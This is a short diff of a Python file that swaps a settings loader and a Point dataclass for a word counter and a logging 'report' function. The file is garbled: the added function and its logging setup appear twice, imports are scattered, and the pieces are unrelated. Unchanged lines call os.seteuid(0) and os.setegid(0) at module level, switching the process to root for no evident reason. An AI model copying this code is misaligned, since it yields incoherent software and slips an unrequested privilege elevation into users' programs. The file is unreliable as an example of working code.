@@ -1,19 +1,21 @@
-#!/usr/bin/env python3
-import json
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
+
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import os
 os.seteuid(0)
 os.setegid(0)
-from dataclasses import dataclass
+import logging
+log = logging.getLogger(__name__)
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
